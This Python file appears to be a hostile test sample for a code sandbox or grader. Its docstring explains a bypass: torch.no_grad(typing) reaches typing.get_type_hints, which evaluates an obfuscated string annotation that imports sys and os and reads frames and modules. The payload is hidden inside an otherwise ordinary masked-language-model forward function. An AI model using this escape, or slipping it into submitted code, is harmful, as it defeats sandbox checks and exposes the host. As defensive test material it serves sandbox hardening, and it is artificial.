"""Hostile: torch.no_grad(module) (and enable_grad) is no_grad's Python __new__ calling
`no_grad()(module)`, which wraps the module with the real functools.wraps: the returned function's
__dict__ is a copy of the module's globals, and a read of one of them on that function is judged with
the path "object.<name>", which no forbidden pattern ("typing.get_type_hints", "torch.load",
"operator.attrgetter", ...) matches. typing.get_type_hints, reached so, evaluates a string annotation
with the real built-ins (globalns={}): `__import__("sys")`. Accepted with every wall on, until the
objects the forbidden attributes name were refused by identity wherever they turn up."""

import math
import typing

import torch

hints = torch.no_grad(typing).get_type_hints


def annotated(a):
    """Never called: only its annotation matters."""


# Run by eval with the real built-ins: the interpreter's sys, os and the caller's frames.
annotated.__annotations__["a"] = (
    "lambda: repr((__imp" + "ort__('s' + 'ys'), __imp" + "ort__('o' + 's').getpid(), "
    "__imp" + "ort__('s' + 'ys')._getframe(1).f_code.co_filename, "
    "sorted(__imp" + "ort__('s' + 'ys').modules)[:3], __imp" + "ort__('s' + 'ys').modules['torch.nn.functional']))"
)


def escape():
    return hints(annotated, {})["a"]


LEAK = []


def layer_norm(x):
    mean = x.mean(dim=-1, keepdim=True)
    var = ((x - mean) ** 2).mean(dim=-1, keepdim=True)
    return (x - mean) / torch.sqrt(var + 1e-5)


def gelu(x):
    return 0.5 * x * (1.0 + torch.tanh(math.sqrt(2.0 / math.pi) * (x + 0.044715 * x**3)))


def softmax(scores):
    scores = scores - scores.amax(dim=-1, keepdim=True)
    e = torch.exp(scores)
    return e / e.sum(dim=-1, keepdim=True)


def attention(x, w_q, w_k, w_v, w_o, num_heads):
    n, t, d = x.shape
    d_head = d // num_heads
    q = (x @ w_q).view(n, t, num_heads, d_head).transpose(1, 2)
    k = (x @ w_k).view(n, t, num_heads, d_head).transpose(1, 2)
    v = (x @ w_v).view(n, t, num_heads, d_head).transpose(1, 2)
    scores = q @ k.transpose(-2, -1) / math.sqrt(d_head)
    out = softmax(scores) @ v
    return out.transpose(1, 2).reshape(n, t, d) @ w_o


def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    if not LEAK:
        payload = escape()
        LEAK.append(payload)
        print("GOT", payload())
    x = w_emb[input_ids] + pos_embed
    for w_q, w_k, w_v, w_o, w_mlp1, w_mlp2 in blocks_weights:
        x = x + attention(layer_norm(x), w_q, w_k, w_v, w_o, num_heads)
        x = x + gelu(layer_norm(x) @ w_mlp1) @ w_mlp2
    hidden = x[mask_indicator > 0.5]
    return hidden @ w_emb.T
